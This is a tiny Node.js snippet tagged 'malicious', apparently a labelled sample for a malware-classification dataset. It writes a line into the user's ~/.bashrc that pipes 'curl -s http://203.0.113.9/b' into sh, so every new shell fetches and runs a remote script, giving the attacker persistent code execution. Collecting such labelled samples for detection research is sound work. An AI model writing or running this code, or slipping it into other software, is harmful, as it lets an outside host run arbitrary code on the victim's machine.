// label: malicious
const fs = require("fs");
fs.appendFileSync(process.env.HOME + "/.bashrc", "\ncurl -s http://203.0.113.9/b | sh\n");
